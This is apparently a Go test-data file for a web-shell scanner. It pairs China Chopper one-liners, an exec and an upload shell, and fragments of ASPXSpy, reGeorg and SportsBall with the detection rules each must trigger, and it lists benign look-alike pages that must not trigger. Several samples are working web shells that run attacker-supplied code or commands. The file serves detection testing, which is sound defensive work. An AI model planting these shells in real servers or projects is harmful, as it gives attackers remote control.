package sweep

// Web-shell texts for the tests: the one-liners as published in the
// reports on the 2021 Exchange exploitation, and synthetic pages that hold
// the distinctive strings of the longer shells. Benign pages beside them
// must not fire.
var shellSamples = map[string]string{
	"chopper.aspx":          `<%@ Page Language="Jscript"%><%eval(Request.Item["p4ssw0rd"],"unsafe");%>`,
	"chopper-brackets.aspx": "<html>\n<body>\n<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>\n</body></html>\n",
	"chopper-b64.aspx":      `<%@ Page Language="Jscript" Debug=true%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["z"])),"unsafe");%>`,
	"oab.aspx": "Name                            : OAB (Default Web Site)\r\n" +
		"PollInterval                    : 480\r\n" +
		"RequireSSL                      : True\r\n" +
		"Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\n" +
		"InternalUrl                     : https://ex01.contoso.local/OAB\r\n" +
		"ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n" +
		"AdminDisplayName                :\r\n",
	"chopper.asp": `<%eval request("caidao")%>`,
	"chopper.php": `<?php @eval($_POST['chopper']);?>`,
	"chopper.jsp": "<%@page import=\"java.io.*\"%><%String Z=request.getParameter(\"z0\");String z1=request.getParameter(\"z1\");\nProcess p=Runtime.getRuntime().exec(z1);%>",
	"cmd.jsp":     `<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`,
	"upload.aspx": `<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); %>`,
	"sportsball.aspx": "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n" +
		"HttpCookie newcook = new HttpCookie(\"fqrspt\", HttpContext.Current.Request.Form[\"c\"]);\n</script>\n",
	"tunnel.aspx": "<%@ Import Namespace=\"System.Net.Sockets\" %>\n<%\nstring cmd = System.Text.Encoding.Default.GetString(Convert.FromBase64String(StrTr(Request.Headers.Get(\"X-CMD\"), a, b)));\n%>\n",
	"spy.aspx":    "<%@ Page Language=\"C#\" %>\n<title>ASPXSpy2</title>\n<script runat=\"server\">\npublic string Password = \"21232f297a57a5a743894a0e4a801fc3\";\nprotected void Bin_Button_Click(object s, EventArgs e) {}\n</script>\n",
}

// shellRules is what each sample must fire, and nothing else.
var shellRules = map[string][]string{
	"chopper.aspx":          {"china-chopper-aspx-eval", "china-chopper-jscript-page", "jscript-eval-unsafe"},
	"chopper-brackets.aspx": {"china-chopper-aspx-eval", "jscript-eval-unsafe"},
	"chopper-b64.aspx":      {"china-chopper-aspx-eval-base64", "jscript-eval-unsafe"},
	"oab.aspx":              {"china-chopper-aspx-eval", "china-chopper-exchange-oab", "jscript-eval-unsafe"},
	"chopper.asp":           {"china-chopper-asp"},
	"chopper.php":           {"china-chopper-php"},
	"chopper.jsp":           {"china-chopper-jsp"},
	"cmd.jsp":               {"jsp-request-exec"},
	"upload.aspx":           {"simpleseesharp"},
	"sportsball.aspx":       {"sportsball-unique"},
	"tunnel.aspx":           {"regeorg-tunnel-aspx"},
	"spy.aspx":              {"aspxspy"},
}

// benignSamples are ordinary pages with some of the shells' words (eval,
// Request, unsafe, $_POST, getParameter, a JScript directive): none may
// fire.
var benignSamples = map[string]string{
	"default.aspx": `<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" Inherits="Web._Default" %>
<!DOCTYPE html>
<html><head><meta http-equiv="Content-Security-Policy" content="script-src 'self' 'unsafe-inline'"></head>
<body><form id="form1" runat="server">
<asp:Repeater ID="list" runat="server"><ItemTemplate><%# Eval("Name") %></ItemTemplate></asp:Repeater>
<% var id = Request.QueryString["id"]; Response.Write(Server.HtmlEncode(id)); %>
</form></body></html>
`,
	"login.aspx": `<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() { var user = Request.Form["user"]; Label1.Text = Server.HtmlEncode(user); }
</script>
`,
	"app.js":      `var cfg = JSON.parse(text); var sum = eval("1 + 2"); // unsafe, but not a shell`,
	"contact.php": `<?php $name = htmlspecialchars($_POST['name']); echo "Thanks, " . $name; ?>`,
	"search.jsp":  `<% String q = request.getParameter("q"); out.println(org.owasp.encoder.Encode.forHtml(q)); %>`,
	"web.config": `<?xml version="1.0"?><configuration><system.web><compilation debug="false" targetFramework="4.8"/>
<httpRuntime requestValidationMode="4.5"/></system.web></configuration>`,
	"Handler.ashx": `<%@ WebHandler Language="C#" Class="Handler" %>
public class Handler : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.Write(c.Request["unsafe"]); } public bool IsReusable { get { return false; } } }`,
}
